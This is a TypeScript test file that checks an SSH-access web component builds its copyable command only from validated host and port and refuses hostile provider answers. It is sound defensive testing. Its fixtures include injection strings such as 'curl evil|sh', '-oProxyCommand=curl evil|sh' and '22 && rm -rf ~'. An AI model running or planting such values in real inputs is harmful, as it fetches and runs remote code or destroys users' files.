import type { AccessView } from "@vm-on-golem/sdk/provider-client";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { SshAccess } from "../src/components/ssh-access.tsx";

// The component rendered by React itself (server rendering: no browser needed), fed what a
// hostile provider's GET /vms/{id}/access could answer.
const render = (access: Partial<AccessView> & Record<string, unknown>, generatedKey = false) =>
  renderToStaticMarkup(
    <SshAccess
      access={
        { host: "10.0.0.5", port: 50800, user: "golem", sshCommand: "", ...access } as AccessView
      }
      generatedKey={generatedKey}
    />,
  );

describe("web: the SSH command behind the Copy button", () => {
  it("is built from the checked host and port with the fixed user, never the provider's text", () => {
    const html = render({ sshCommand: "curl evil|sh", user: "root" });
    expect(html).toContain(
      'data-testid="ssh-command">ssh -p 50800 -o ServerAliveInterval=60 golem@10.0.0.5</code>',
    );
    expect(html).toContain(">Copy</button>");
    expect(html).not.toContain("curl");
    expect(html).not.toContain("root");
    expect(render({}, true)).toContain("ssh -i ~/.ssh/");
  });

  it.each([
    ["a command in the host", { host: "x; curl evil|sh" }],
    ["a command in the port", { port: "22 && rm -rf ~" as unknown as number }],
    ["an option as the host", { host: "-oProxyCommand=curl evil|sh" }],
  ])("a hostile answer (%s) is refused on the page, with nothing to copy", (_name, access) => {
    const html = render(access);
    expect(html).toContain('data-testid="ssh-access-refused"');
    expect(html).toContain("SSH_ACCESS_INVALID");
    expect(html).toContain("no command was built");
    expect(html).not.toContain("<button");
    expect(html).not.toContain('data-testid="ssh-command"');
  });
});
